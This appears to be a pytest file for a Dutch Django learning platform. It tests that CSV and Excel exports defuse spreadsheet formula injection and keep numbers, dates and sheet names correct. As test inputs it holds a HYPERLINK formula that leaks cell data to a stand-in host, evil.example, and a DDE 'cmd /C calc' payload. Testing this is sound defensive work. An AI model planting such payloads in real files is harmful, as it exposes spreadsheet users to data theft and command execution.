"""Every CSV the application writes defuses cells a spreadsheet would run as a formula."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from proeftuin import spreadsheets
from tests import factories

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_a_formula_gets_a_leading_quote(start):
    out = io.StringIO()
    spreadsheets.writer(out).writerow([f"{start}1+1", "gewone tekst"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        f"'{start}1+1",
        "gewone tekst",
    ]


def test_numbers_the_code_writes_stay_numbers_even_when_negative():
    out = io.StringIO()
    spreadsheets.writer(out).writerow([-3, -1.5, 0, "-3"])
    assert out.getvalue() == "-3;-1.5;0;'-3\r\n"


def test_the_coachs_participants_csv_shows_formulas_in_names_and_goals_as_text(pilot, client_for):
    pilot.participant.user.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    pilot.participant.user.save()
    factories.GoalFactory(membership=pilot.participant, statement=FORMULA)
    response = client_for(pilot.coach).get(
        reverse("learning:participants-csv", args=[pilot.proeftuin.pk])
    )
    (row,) = _rows(response)[1:]
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[3] == "'" + FORMULA


def test_no_cell_of_the_overview_csv_starts_a_formula(pilot, client_for):
    pilot.participant.user.full_name = "=1+1"
    pilot.participant.user.save()
    factories.ActivityFactory(membership=pilot.participant, title=FORMULA)
    response = client_for(pilot.director).get(
        reverse("proeftuin:overview-export", args=[pilot.proeftuin.pk])
    )
    cells = [cell for row in _rows(response) for cell in row]
    assert cells
    assert [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)] == []


def test_every_csv_of_the_application_goes_through_the_one_writer():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("proeftuin", "learning", "workshops", "notifications", "config")
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["proeftuin/spreadsheets.py"]


def _workbook(response):
    from openpyxl import load_workbook

    assert response["Content-Type"] == spreadsheets.XLSX_TYPE
    return load_workbook(io.BytesIO(response.content))


def test_the_workbook_defuses_formulas_by_the_rule_of_the_csv(pilot, client_for):
    pilot.participant.user.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    pilot.participant.user.save()
    factories.GoalFactory(membership=pilot.participant, statement=FORMULA)
    response = client_for(pilot.coach).get(
        reverse("learning:participants-xlsx", args=[pilot.proeftuin.pk])
    )
    sheet = _workbook(response)["Deelnemers per vaardigheid"]
    row = [cell.value for cell in sheet[2]]
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[3] == "'" + FORMULA
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_the_workbook_keeps_numbers_and_dates_typed_with_a_bold_header(pilot, client_for):
    goal = factories.GoalFactory(
        membership=pilot.participant,
        statement="Zelf een draaitabel maken van de klanttevredenheid per kwartaal",
        start_level=1,
        target_level=3,
    )
    response = client_for(pilot.coach).get(
        reverse("learning:participants-xlsx", args=[pilot.proeftuin.pk])
    )
    sheet = _workbook(response).active
    assert sheet["A1"].value == "Vaardigheid" and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert (sheet["E2"].value, sheet["G2"].value) == (1, 3)
    assert sheet["I2"].value.date() == goal.due_on
    assert sheet["I2"].is_date
    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["E"].width


def test_sheet_names_are_made_valid_and_unique():
    from openpyxl import load_workbook

    sheets = [
        spreadsheets.Sheet("Deelname: uren/maand [2026]", ["a"], [[1]]),
        spreadsheets.Sheet("Deelname: uren/maand [2026]", ["a"], [[2]]),
    ]
    book = load_workbook(io.BytesIO(spreadsheets.workbook(sheets)))
    assert book.sheetnames == ["Deelname uren maand 2026", "Deelname uren maand 2026 (2)"]


def test_every_workbook_of_the_application_comes_from_the_one_writer():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("proeftuin", "learning", "workshops", "notifications", "config", "integrations")
        for path in (ROOT / app).rglob("*.py")
        if "openpyxl" in path.read_text()
    ]
    assert writers == ["proeftuin/spreadsheets.py"]
